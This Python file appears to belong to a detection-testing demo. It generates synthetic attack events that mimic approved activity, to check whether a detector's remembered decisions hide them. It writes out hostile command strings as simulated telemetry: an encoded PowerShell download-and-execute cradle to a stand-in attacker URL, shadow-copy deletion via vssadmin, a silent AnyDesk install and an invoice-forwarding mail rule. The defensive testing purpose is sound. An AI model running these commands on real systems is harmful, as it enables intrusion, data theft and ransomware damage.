"""Attacks that look like what has been decided: the same rule at the same company, and another program or destination.

Whoever remembers decisions too broadly misses these.
"""

from hinomi.demo.planted.happening import Cloud, Connected, Started
from hinomi.demo.planted.noise import POWERSHELL
from hinomi.demo.planted.plots.infections import RUNS, looks_around
from hinomi.demo.planted.plots.plot import Plot
from hinomi.demo.planted.scene import Expected, Scene, expect
from hinomi.demo.programs import SYSTEM, WORD


def packed_command_of_document(scene: Scene) -> Expected:
    """A packed command as the drivers' update has it, from a document."""
    packed = scene.attacker.encoded(f"IEX(New-Object Net.WebClient).DownloadString('{scene.attacker.url()}')")
    command = f"powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand {packed}"
    scene.then(
        Started(scene.host, POWERSHELL, command, WORD, f'"{WORD}" /n "C:\\work\\{scene.attacker.document}.docm"')
    )
    return expect([scene.host], RUNS)


def upload_elsewhere(scene: Scene) -> Expected:
    """At night, from the machine that makes backups, to another place: more than five of its backups at once."""
    for _ in range(8):
        sent = scene.random.randint(4_000, 8_000) << 20
        what = Connected(scene.host, "", scene.attacker.store, sent=sent, received=70_000, seconds=1500)
        scene.then(what, (600, 1200))
    return expect([scene.host], ("data_upload", "data_taken_out"))


def remote_tool_of_stranger(scene: Scene) -> Expected:
    """The same tool that maintenance uses, put somewhere else by something else."""
    tool = f"{scene.attacker.folder(scene.host.user)}AnyDesk.exe"
    scene.then(
        Started(scene.host, tool, f"{tool} --install C:\\ProgramData\\{scene.attacker.word()} --silent", POWERSHELL)
    )
    looks_around(scene, scene.host, tool)
    return expect([scene.host], ("remote_control_tool", "support_scam", *RUNS))


def copies_deleted(scene: Scene) -> Expected:
    """All copies for recovery, by a program from a user's folder."""
    locker = f"{scene.attacker.folder(scene.host.user)}{scene.attacker.tool}"
    scene.then(Started(scene.host, f"{SYSTEM}vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", locker))
    return expect([scene.host], ("ransomware",))


def forwarding_elsewhere(scene: Scene) -> Expected:
    """The accountant's rule with another address in it, made from elsewhere."""
    who = scene.attacker
    stranger = who.address()
    scene.then(Cloud(scene.host.mail, "UserLoggedIn", stranger, (("UserAgent", "python-requests/2.28.1"),)))
    details = (
        ("Name", "税理士事務所へ"),
        ("SubjectContainsWords", "請求書"),
        ("ForwardTo", f"{who.word()}@{who.domain()}"),
    )
    scene.then(Cloud(scene.host.mail, "New-InboxRule", stranger, details))
    return expect([scene.host], ("account_takeover",))


TWINS: dict[str, Plot] = {
    "driver update": Plot("twin of driver update", packed_command_of_document, ("edr",)),
    "backup upload": Plot("twin of backup upload", upload_elsewhere, ("fortinet_fortigate",)),
    "remote maintenance": Plot("twin of remote maintenance", remote_tool_of_stranger, ("edr",)),
    "old copies removed": Plot("twin of old copies removed", copies_deleted, ("edr",)),
    "accountant forwarding": Plot("twin of accountant forwarding", forwarding_elsewhere, ("cloud",)),
}
"""Cause to what resembles it."""
